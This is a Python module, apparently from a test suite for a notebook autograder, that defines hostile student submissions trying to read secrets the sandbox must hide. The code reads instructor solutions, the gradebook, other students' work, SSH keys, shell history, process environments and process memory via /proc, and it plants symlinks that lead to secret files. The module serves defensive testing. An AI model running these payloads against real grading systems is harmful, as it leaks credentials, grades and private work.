"""Submissions that try to read what their author must not see."""

from __future__ import annotations

import os

from .attack import Group, Hand

GROUP = Group("read_secrets")

_TRY_TO_PRINT = """\
def _show(path):
    try:
        with open(path, "rb") as file:
            print(file.read().decode("utf-8", "replace"))
    except Exception as error:
        print(type(error).__name__)
"""


def _print_files(*paths: object) -> str:
    return _TRY_TO_PRINT + "\n".join(f"_show({str(path)!r})" for path in paths)


@GROUP.add(points=6)
def read_solution(hand: Hand) -> None:
    """Opens the instructor's notebook, with solutions and hidden tests, and prints it."""
    hand.solve_all()
    hand.add_first(_print_files(hand.targets.secrets["solution"]))


@GROUP.add(points=6)
def read_gradebook(hand: Hand) -> None:
    """Opens the database of grades and prints it."""
    hand.solve_all()
    hand.add_first(_print_files(hand.targets.secrets["gradebook"]))


@GROUP.add(points=6)
def read_neighbour(hand: Hand) -> None:
    """Opens another student's submission and prints it."""
    hand.solve_all()
    hand.add_first(_print_files(hand.targets.secrets["neighbour"]))


@GROUP.add(points=6)
def read_home(hand: Hand) -> None:
    """Prints the files in the instructor's home, keys and shell history among them."""
    hand.solve_all()
    home = hand.targets.secrets["home"]
    hand.add_first(
        _print_files(home, home.parent / ".ssh" / "id_ed25519", home.parent / ".bash_history")
    )


@GROUP.add(points=6)
def read_environment(hand: Hand) -> None:
    """Prints the environment variables of its process and of all others that it can see."""
    hand.solve_all()
    hand.add_first(
        "import glob, os\nprint(dict(os.environ))\n"
        + _TRY_TO_PRINT
        + "for path in glob.glob('/proc/[0-9]*/environ'):\n    _show(path)"
    )


@GROUP.add(points=6)
def walk_the_disk(hand: Hand) -> None:
    """Looks through all folders of the course for files with secrets, starting from its own."""
    hand.solve_all()
    course = hand.targets.secrets["solution"].parents[3]
    hand.add_first(
        "import os\n"
        + _TRY_TO_PRINT
        + f"for top in ('.', '..', {str(course)!r}, '/work', '/home', '/root'):\n"
        "    for number, (folder, _, names) in enumerate(os.walk(top)):\n"
        "        if number > 2000:\n            break\n"
        "        for name in names:\n"
        "            if name.endswith(('.ipynb', '.db', '.canary')) and '.venv' not in folder:\n"
        "                _show(os.path.join(folder, name))"
    )


@GROUP.add(points=6)
def read_kernel_files(hand: Hand) -> None:
    """Looks for the connection files and keys of kernels, and for the folder it is graded in."""
    hand.solve_all()
    hand.add_first(
        "import glob, json, os, sys\n"
        + _TRY_TO_PRINT
        + "print(sys.argv)\nprint(os.getcwd(), os.listdir('.'))\n"
        "for pattern in ('*.ipynb', '../*/*.ipynb', '../../*/*/*.ipynb'):\n"
        "    for path in glob.glob(pattern):\n        _show(path)"
    )


@GROUP.add(points=6)
def read_other_processes(hand: Hand) -> None:
    """Reads command lines, open files and memory of the processes that grade."""
    hand.solve_all()
    hand.add_first("""\
import glob, os, re
for folder in glob.glob("/proc/[0-9]*"):
    if folder == f"/proc/{os.getpid()}":
        continue
    for name in ("cmdline", "environ"):
        try:
            print(open(f"{folder}/{name}", "rb").read())
        except OSError as error:
            print(type(error).__name__)
    try:
        lines = open(f"{folder}/maps").read().splitlines()
        memory = open(f"{folder}/mem", "rb")
    except OSError:
        continue
    for line in lines[:200]:
        bounds = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
        if bounds:
            start, end = (int(part, 16) for part in bounds.groups())
            try:
                memory.seek(start)
                content = memory.read(min(end - start, 4 << 20))
            except (OSError, ValueError, OverflowError):
                continue
            print(re.findall(rb"canary-[0-9a-f]{16}", content))
""")


@GROUP.add(points=3)
def search_own_memory(hand: Hand) -> None:
    """Searches the objects, frames and modules of its own process for the text of hidden tests."""
    hand.solve_half("""\
import gc, sys

def double(x):
    found = []
    frame = sys._getframe()
    while frame:
        found += [repr(value)[:3000] for value in frame.f_locals.values()]
        frame = frame.f_back
    for item in gc.get_objects():
        if isinstance(item, (list, tuple, dict)) and len(item) < 100:
            try:
                text = repr(item)
            except Exception:
                continue
            if "HIDDEN" in text or "canary" in text:
                found.append(text[:3000])
    raise ValueError("".join(found)[-100_000:])
""")
    hand.add_last("""\
import re
print([name for name in sys.modules if "course" in name or "autograde" in name])
for line in open("/proc/self/maps"):
    bounds = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
    if bounds:
        start, end = (int(part, 16) for part in bounds.groups())
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(start)
                content = memory.read(min(end - start, 8 << 20))
        except (OSError, ValueError, OverflowError):
            continue
        print(set(re.findall(b"canary" + b"-[0-9a-f]{16}", content)))
""")


@GROUP.add(points=3)
def keep_hidden_inputs(hand: Hand) -> None:
    """Writes down what the hidden tests hand to its function, for a later cell to print."""
    hand.solve_half("""\
def double(x):
    with open("heard.txt", "a") as file:
        file.write(f"heard: {x!r}\\n")
    return 0
""")
    hand.add_last(_print_files("heard.txt"))


@GROUP.add(points=3)
def keep_hidden_inputs_in_shared_memory(hand: Hand) -> None:
    """Hands what the hidden tests ask to a later cell, through memory that copies share."""
    hand.solve_half("""\
import mmap
heard = mmap.mmap(-1, 4096)

def double(x):
    heard.write(f"heard: {x!r}\\n".encode())
    return 0
""")
    hand.add_last("heard.seek(0)\nprint(heard.read().strip(b'\\0').decode())")


@GROUP.add(points=3)
def import_the_answers(hand: Hand) -> None:
    """Imports the course's own packages and looks for worked answers and checks in them."""
    hand.solve_half()
    hand.add_first("""\
import pathlib
from course.checks.hidden import full_check
for folder in (".", "..", "/", *pathlib.Path(full_check.__code__.co_filename).parents):
    print(full_check("m0_practice/doubling", "double_arrays", pathlib.Path(folder)))
""")
    for name in ("autograde.answers", "autograde.bank", "authoring.lab", "tests.conftest"):
        hand.add_first(f"import {name} as found\nprint(found.__path__, dir(found))")


@GROUP.add(points=6, says="Not taken along")
def link_to_gradebook(hand: Hand) -> None:
    """Hands in a link by the name of a data file, which leads to the database of grades."""
    hand.solve_all()
    os.symlink(hand.targets.secrets["gradebook"], hand.folder / "data.csv")
    hand.add_first(_print_files("data.csv"))


@GROUP.add(points=6, says="Not taken along")
def link_to_a_folder(hand: Hand) -> None:
    """Hands in a link to the folder with the solutions, and one to the home."""
    hand.solve_all()
    os.symlink(hand.targets.secrets["solution"].parent, hand.folder / "figures")
    os.symlink(hand.targets.secrets["home"].parent, hand.folder / "data")
    hand.add_first(_print_files("figures/doubling.ipynb", "data/.canary"))


@GROUP.add(points=0, says="(a link)")
def link_as_notebook(hand: Hand) -> None:
    """Hands in a link to the instructor's notebook instead of a notebook."""
    os.symlink(hand.targets.secrets["solution"], hand.path)


@GROUP.add(points=0, says="(a link)")
def link_as_folder(hand: Hand) -> None:
    """Hands in a link to the instructor's folder instead of a folder."""
    hand.folder.rmdir()
    os.symlink(hand.targets.secrets["solution"].parent, hand.folder)


@GROUP.add(points=6)
def markdown_that_includes(hand: Hand) -> None:
    """Asks for a secret file by attachments and links in text cells and outputs."""
    hand.solve_all()
    secret = hand.targets.secrets["home"]
    hand.cell("top-text-1").source += f"\n![x]({secret}) ![y](file://{secret})"
    hand.add_first(
        "from IPython.display import FileLink, IFrame, Image, Markdown, display\n"
        f"display(Markdown('![x]({secret})'), IFrame({str(secret)!r}, 10, 10))\n"
        f"display(FileLink({str(secret)!r}))\n"
        f"display(Image(url='file://{secret}'))"
    )
